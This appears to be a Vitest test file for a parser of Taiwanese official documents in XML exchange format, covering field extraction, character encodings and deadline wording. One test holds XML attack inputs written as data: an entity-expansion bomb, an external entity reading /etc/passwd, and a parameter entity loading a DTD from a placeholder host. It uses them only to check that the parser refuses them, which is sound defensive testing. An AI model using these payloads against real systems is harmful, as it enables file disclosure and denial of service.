import { describe, expect, test } from 'vitest'
import { deadlineIn } from '../../../server/documents/reading/deadline.ts'
import { readDi } from '../../../server/documents/reading/read-di.ts'
import { di, diText, inBig5 } from '../../support/documents/di.ts'

describe('an official document in the exchange format', () => {
  test('tells its number, day, sender, subject, points, speed, deadline and to whom it goes', () => {
    expect(readDi(di({ attachments: ['附件1.pdf', 'C:\\temp\\附件2.ods'] }))).toEqual({
      kind: '函',
      number: '總處資字第1150001234號',
      issuedOn: '2026-11-20',
      senderName: '臺北市政府人事處',
      senderCode: '379000000A',
      subject:
        '貴處所管人事服務網差勤子系統匯出之清冊姓名顯示異常，請惠予協助處理，並請於115年12月5日前函復，請查照。',
      explanation:
        '說明：\n一、依據本處115年11月18日內部通報辦理。\n二、旨揭系統於匯出人員清冊時，罕用字姓名變成問號。',
      speed: '速件',
      secrecy: null,
      dueOn: '2026-12-05',
      recipients: ['行政院人事行政總處', '人事資訊系統客服中心'],
      copies: ['本處資訊室'],
      attachmentNote: '如文',
      attachmentFiles: ['附件1.pdf', '附件2.ods'],
    })
  })

  test.each([
    ['UTF-8', di()],
    ['UTF-8 with its mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), di()])],
    ['Big5', di({ encoding: 'Big5' })],
    ['Big5, not declared', inBig5(diText({ encoding: null }))],
    ['Big5, declared as UTF-8', inBig5(diText({ encoding: 'UTF-8' }))],
    ['UTF-8, declared as Big5', Buffer.from(diText({ encoding: 'Big5' }))],
    [
      'UTF-16',
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(diText({ encoding: null }), 'utf16le')]),
    ],
    ['ms950', inBig5(diText().replace('UTF-8', 'MS950'))],
  ])('is read in %s', (_name, bytes) => {
    expect(readDi(bytes)).toMatchObject({
      number: '總處資字第1150001234號',
      senderName: '臺北市政府人事處',
      dueOn: '2026-12-05',
    })
  })

  test('is read as other programs write it: number and day in words, points in points, attributes', () => {
    const odd = `<?xml version="1.0"?><書函><發文機關 機關代碼="A01">銓敘部</發文機關>
      <發文日期>中華民國一百一十五年</發文日期><發文日期><年月日>民國１１５年１１月２日</年月日></發文日期>
      <發文字號>部退五字第11500099號</發文字號><速別>最速件</速別>
      <主旨>檢送會議紀錄</主旨><限辦日期>115/11/30</限辦日期>
      <段落 段名="說明："><文字>如下：</文字><條列 序號="一、"><文字>甲</文字><條列 序號="（一）"><文字>乙</文字></條列></條列></段落>
      <正本>行政院、考試院</正本></書函>`
    expect(readDi(Buffer.from(odd))).toMatchObject({
      kind: '書函',
      number: '部退五字第11500099號',
      senderName: '銓敘部',
      senderCode: 'A01',
      speed: '最速件',
      subject: '檢送會議紀錄',
      dueOn: '2026-11-30',
      explanation: '說明：如下：\n一、甲\n　（一）乙',
      recipients: ['行政院', '考試院'],
    })
  })

  test('that invites to a meeting is about that meeting', () => {
    const meeting = diText({ kind: '開會通知單' }).replace(
      /<主旨>.*<\/主旨>/u,
      '<開會事由><文字>研商差勤系統改版</文字></開會事由><開會時間>115年12月1日（星期二）上午10時</開會時間><開會地點>第一會議室</開會地點>',
    )
    const read = readDi(Buffer.from(meeting))
    expect(read).toMatchObject({ kind: '開會通知單', subject: '研商差勤系統改版' })
    expect(read.explanation).toContain('開會時間：115年12月1日（星期二）上午10時\n開會地點：第一會議室')
  })

  test('that is secret says so', () => {
    expect(readDi(di({ secrecy: '密' })).secrecy).toBe('密')
  })

  test('loads nothing and expands nothing: bombs and files of the server are refused', () => {
    const bomb = '<!DOCTYPE 函 [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'
    const outside = '<!DOCTYPE 函 [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    const parameter = '<!DOCTYPE 函 [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>'
    for (const doctype of [bomb, outside, parameter])
      expect(() => readDi(di({ doctype, subject: '&c;' }))).toThrow('document-entities')
    expect(() => readDi(di({ subject: '&unknown;' }))).toThrow('document-not-xml')
    expect(readDi(di({ doctype: '<!DOCTYPE 函 SYSTEM "http://192.0.2.1/104_2.dtd">' })).kind).toBe('函')
  })

  test('that is broken, endless or no text is refused, whatever it is', () => {
    expect(() => readDi(Buffer.from(diText().slice(0, -20)))).toThrow('document-not-xml')
    expect(() => readDi(Buffer.from(''))).toThrow('document-charset')
    expect(() => readDi(Buffer.from([0x80, 0xff, 0xff, 0x00, 0x80]))).toThrow('document-charset')
    expect(() => readDi(Buffer.from('plain words'))).toThrow('document-not-xml')
    expect(() => readDi(Buffer.from(`${'<a>'.repeat(200)}`))).toThrow('document-too-large')
    expect(() => readDi(Buffer.from(`<a>${'<b/>'.repeat(60_000)}</a>`))).toThrow('document-too-large')
  })
})

describe('a deadline in the words of a document', () => {
  test.each([
    ['請於115年12月5日前函復', '2026-12-05'],
    ['請於民國115年12月5日（星期六）以前惠復', '2026-12-05'],
    ['請於12月5日下班前回復', '2026-12-05'],
    ['請於1月5日前回復', '2027-01-05'],
    ['請於115/12/05前，至遲115年12月3日前先行', '2026-12-03'],
    ['復貴處114年12月5日前來函，請於１１５年１２月８日前', '2026-12-08'],
  ])('%s', (words, day) => {
    expect(deadlineIn(words, '2026-11-20')).toBe(day)
  })

  test('is none where a day is only mentioned', () => {
    expect(deadlineIn('依本處115年11月18日函辦理，前次會議', '2026-11-20')).toBeUndefined()
    expect(deadlineIn('請於13月45日前', '2026-11-20')).toBeUndefined()
    expect(deadlineIn('請於12月5日前', null)).toBeUndefined()
  })
})
